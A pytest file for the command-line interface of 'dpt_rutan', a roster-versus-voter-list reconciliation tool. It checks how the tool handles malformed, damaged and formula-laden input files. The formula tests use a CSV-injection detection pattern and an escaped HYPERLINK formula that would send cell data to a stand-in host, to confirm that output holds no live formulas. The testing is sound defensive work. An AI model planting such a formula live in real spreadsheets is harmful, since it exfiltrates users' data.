"""The bad-input corpus (tests/data/bad/, written by make_bad_files.py) through the real CLI.

An unusable file gives exit code 2 and one line that names the file (and sheet, row and column where they apply)
and says what to do, never a traceback. A file that can be read keeps every row: the rows it could not fully
understand are kept and reported, so data rows + skipped rows = the rows below the header.
"""

from __future__ import annotations

import csv
import importlib.util
import json
import os
import re
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from dpt_rutan.cli import app

ROOT = Path(__file__).resolve().parents[2]
BAD = ROOT / "tests" / "data" / "bad"
EXAMPLES = ROOT / "examples"
ROSTER = EXAMPLES / "roster_rutan_blora.xlsx"
KPU = EXAMPLES / "dpt_kpu_blora.csv"
SITE = EXAMPLES / "site_rutan_blora.toml"
SUMMARY = re.compile(r"header on row (\d+), (\d+) data rows, (\d+) other rows")
STATUS_TOTAL = re.compile(r"(\d+) rows read = sum of statuses\s*│\s*(\d+)")
# What a spreadsheet runs as a formula (OWASP CSV injection): a leading = + - @ tab or CR, except a plain signed
# number and the "-" placeholder, which are values.
LIVE_FORMULA = re.compile(r"(?!-\Z)(?![+-]\d+(?:[.,]\d+)*\Z)[=+\-@\t\r]")

runner = CliRunner()


def _load_generator():
    spec = importlib.util.spec_from_file_location("make_bad_files", BAD / "make_bad_files.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


make_bad_files = _load_generator()


def run(*args: object):
    return runner.invoke(app, [str(arg) for arg in args])


def validate(path: Path, *extra: object):
    return run("validate", path, *extra)


def reconcile(roster: Path, kpu: Path = KPU, *extra: object):
    return run("reconcile", roster, kpu, "--site", SITE, *extra)


def tps_plan(path: Path):
    return run("tps-plan", path, "--site", SITE)


def assert_one_line_error(result, path: Path, fragments: tuple[str, ...]) -> None:
    """Exit 2, nothing on stdout, one stderr line naming the file with every fragment, and no traceback."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    assert result.stdout == ""
    lines = result.stderr.splitlines()
    assert len(lines) == 1, lines
    assert lines[0].startswith("dpt-rutan: error: ")
    assert path.name in lines[0]
    for fragment in fragments:
        assert fragment in lines[0]


# --- Unusable files: exit 2 and one line --------------------------------------------------------------------------


@dataclass(frozen=True)
class Unusable:
    file: str
    fragments: tuple[str, ...]  # the problem, where it is and what to do


UNUSABLE = [
    Unusable("empty.csv", ("the file is empty", "Export the list again")),
    Unusable("empty.xlsx", ("the file is empty", "Export the list again")),
    Unusable(
        "two_nik_columns.csv",
        ("row 1", "two columns look like nik", "(column 4)", "(column 10)", '--map nik="NIK"'),
    ),
    Unusable("duplicate_name_headers.csv", ("row 1", "two columns look like name", "(column 10)", "--map name=")),
    Unusable("password.xlsx", ("protected with a password", "Save an unprotected copy")),
    Unusable("truncated.xlsx", ("damaged", "save it again as .xlsx")),
    Unusable("corrupt_sheet.xlsx", ("sheet 'DATA WBP'", "the sheet cannot be read", "save it again as .xlsx")),
    Unusable("utf16_no_bom.csv", ("UTF-16 without a BOM", "CSV UTF-8")),
    Unusable("nul_bytes.csv", ("row 4", "NUL bytes", "save it again as CSV UTF-8")),
]


@pytest.mark.parametrize("case", UNUSABLE, ids=lambda case: case.file)
def test_unusable_file_is_one_line_and_exit_2_in_every_command(case):
    path = BAD / case.file
    for result in (validate(path), reconcile(path), tps_plan(path)):
        assert_one_line_error(result, path, case.fragments)


def test_kpu_extract_without_a_nik_column_is_unusable_for_reconcile():
    path = BAD / "no_nik_column.csv"
    assert_one_line_error(
        reconcile(ROSTER, path), path, ("row 1", "no column for nik", "headers found: 'NO'", '--map nik="Your header"')
    )


def test_a_50_mb_cell_names_its_row_and_column(tmp_path):
    path = make_bad_files.write_huge_cell_csv(tmp_path / "huge_cell.csv")
    assert path.stat().st_size > make_bad_files.HUGE_CELL_BYTES
    fragments = ("row 4", "column 3 (NAMA)", "52,428,800 characters", "Correct that cell")
    assert_one_line_error(validate(path), path, fragments)
    assert_one_line_error(reconcile(path), path, fragments)


def test_a_folder_is_not_a_file(tmp_path):
    folder = tmp_path / "roster.xlsx"
    folder.mkdir()
    assert_one_line_error(validate(folder), folder, ("is a folder, not a file", "Give the path of the file"))
    # A KPU extract may be a folder of workbooks (the per-kelurahan lists a regency hands over), but not an empty one.
    assert_one_line_error(reconcile(ROSTER, folder), folder, ("the folder holds no workbook or CSV file",))


def test_a_missing_file(tmp_path):
    missing = tmp_path / "roster_januari.xlsx"
    assert_one_line_error(validate(missing), missing, ("file not found", "Check the path"))
    assert_one_line_error(reconcile(missing), missing, ("file not found",))


@pytest.mark.skipif(os.geteuid() == 0, reason="running as root: chmod 000 does not stop root from reading a file")
def test_a_file_without_read_permission(tmp_path):
    path = tmp_path / "roster.csv"
    path.write_bytes((BAD / "ragged.csv").read_bytes())
    path.chmod(0)
    assert_one_line_error(validate(path), path, ("no permission to read the file", "Ask for read access"))


# --- Readable files: every row kept and reported ------------------------------------------------------------------


@dataclass(frozen=True)
class Readable:
    file: str
    exit_code: int  # of validate: 0 clean or warnings only, 1 with errors
    header_row: int
    people: int  # rows below the header, every one of them a person
    findings: set[tuple[int, str]] = field(default_factory=set)  # (source_row, code): every finding validate gives


PEOPLE = make_bad_files.ROSTER_ROWS
BELOW_CSV_HEADER = range(2, 2 + PEOPLE)

READABLE = [
    # A header without rows is a readable file with no one in it: not unusable (exit 2), but never clean (exit 0)
    # either, since a roster of nobody is always a filtered export or the wrong sheet.
    Readable("header_only.csv", 1, 1, 0, {(1, "NO_DATA_ROWS")}),
    Readable("no_nik_column.csv", 0, 1, PEOPLE, {(row, "MISSING") for row in BELOW_CSV_HEADER}),
    Readable("duplicate_headers.csv", 0, 1, PEOPLE, {(1, "HEADER_NOTE")}),
    Readable("xls_renamed.xlsx", 0, 1, PEOPLE),
    Readable("utf16.csv", 0, 1, PEOPLE),
    Readable("mixed_delimiters.csv", 0, 1, PEOPLE, {(row, "ROW_OTHER_DELIMITER") for row in (3, 6, 9)}),
    Readable("ragged.csv", 0, 1, PEOPLE, {(5, "RAGGED_ROW")}),
    Readable("long_names.csv", 0, 1, PEOPLE),
    Readable("formulas.csv", 1, 1, PEOPLE, {(6, "NOT_DIGITS")}),
    Readable("formulas.xlsx", 0, 3, PEOPLE, {(6, "DOB_MISMATCH")}),
    Readable("dates_extreme.csv", 1, 1, PEOPLE, {(row, "BAD_BIRTH_DATE") for row in range(2, 7)}),
    Readable(
        "dates_extreme.xlsx",
        1,
        3,
        PEOPLE,
        {(4, "BAD_BIRTH_DATE"), (5, "BAD_BIRTH_DATE"), (6, "DOB_MISMATCH"), (7, "BAD_BIRTH_DATE")},
    ),
]


def summary_counts(result) -> tuple[int, int, int]:
    """Header row, data rows and other rows from validate's first line."""
    found = SUMMARY.search(" ".join(result.stdout.split()))
    assert found, result.output
    return int(found[1]), int(found[2]), int(found[3])


def finding_rows(path: Path) -> set[tuple[int, str]]:
    findings = json.loads(path.read_text(encoding="utf-8"))["findings"]
    return {(int(row["source_row"]), row["code"]) for row in findings}


@pytest.mark.parametrize("case", READABLE, ids=lambda case: case.file)
def test_readable_file_keeps_and_reports_every_row(case, tmp_path):
    findings = tmp_path / "temuan.json"
    result = validate(BAD / case.file, "-o", findings)
    assert result.exit_code == case.exit_code, result.output
    assert "Traceback" not in result.output
    header_row, data_rows, other_rows = summary_counts(result)
    assert (header_row, data_rows, other_rows) == (case.header_row, case.people, 0)
    assert finding_rows(findings) == case.findings


@pytest.mark.parametrize("case", [c for c in READABLE if c.people], ids=lambda case: case.file)
def test_reconcile_gives_every_readable_roster_row_one_status(case):
    result = reconcile(BAD / case.file)
    assert result.exit_code == 0, result.output
    total = STATUS_TOTAL.search(result.stdout)
    assert total, result.output
    assert (int(total[1]), int(total[2])) == (case.people, case.people)


def test_the_widest_sheet_excel_allows_is_read(tmp_path):
    path = make_bad_files.write_widest_sheet(tmp_path / "lebar.xlsx", rows=4)
    result = validate(path)
    assert result.exit_code == 0, result.output
    assert summary_counts(result) == (1, 4, 0)


def test_long_names_are_kept_whole(tmp_path):
    out = tmp_path / "hasil.xlsx"
    assert validate(BAD / "long_names.csv", "-o", out).exit_code == 0
    names = [row[0] for row in openpyxl.load_workbook(out)["Baris"].iter_rows(min_row=2, min_col=4, values_only=True)]
    assert [len(name) for name in names[::2]] == [1000] * (PEOPLE // 2)


# --- Formulas: read as values or text, never run, never written back live ---------------------------------------


def spreadsheet_cells(path: Path) -> list[object]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            return [cell for row in csv.reader(handle) for cell in row]
    workbook = openpyxl.load_workbook(path)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    return [cell.value for cell in cells]


def live_formulas(cells: list[object]) -> list[str]:
    return [cell for cell in cells if isinstance(cell, str) and LIVE_FORMULA.match(cell)]


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("command", ["validate", "reconcile"])
def test_reports_from_formula_text_hold_no_live_formula(command, suffix, tmp_path):
    out = tmp_path / f"hasil{suffix}"
    source = BAD / "formulas.csv"
    result = validate(source, "-o", out) if command == "validate" else reconcile(source, KPU, "-o", out)
    assert result.exit_code == (1 if command == "validate" else 0), result.output
    cells = spreadsheet_cells(out)
    assert live_formulas(cells) == []
    # validate's CSV lists findings only, and the formula-like names are not findings.
    if (command, suffix) != ("validate", ".csv"):
        assert '\'=HYPERLINK("http://example.invalid/?d="&A1,"klik")' in cells


def test_formula_cells_are_read_as_the_values_excel_cached(tmp_path):
    """formulas.xlsx holds live formulas with cached values: the values are read, the formulas neither run nor kept."""
    out = tmp_path / "hasil.xlsx"
    assert validate(BAD / "formulas.xlsx", "-o", out).exit_code == 0
    assert live_formulas(spreadsheet_cells(out)) == []
    rows = {row[0]: row for row in openpyxl.load_workbook(out)["Baris"].iter_rows(min_row=2, values_only=True)}
    assert rows[5][3] == "BUDI SANTOSO"
    assert rows[6][4] == "3316090101900001"


# --- The corpus itself --------------------------------------------------------------------------------------------


def test_corpus_is_complete_and_small():
    kept = {path.name for path in BAD.iterdir()} - {"make_bad_files.py", "__pycache__"}
    assert kept == set(make_bad_files.WRITERS)
    assert sum(path.stat().st_size for path in BAD.iterdir() if path.is_file()) < 2_000_000
    covered = {case.file for case in UNUSABLE} | {case.file for case in READABLE} | {"no_nik_column.csv"}
    assert covered == set(make_bad_files.WRITERS)


def test_the_generator_is_seeded(tmp_path):
    make_bad_files.write_corpus(tmp_path)
    text_files = [name for name in make_bad_files.WRITERS if name.endswith(".csv")]
    assert [(tmp_path / name).read_bytes() for name in text_files] == [(BAD / name).read_bytes() for name in text_files]
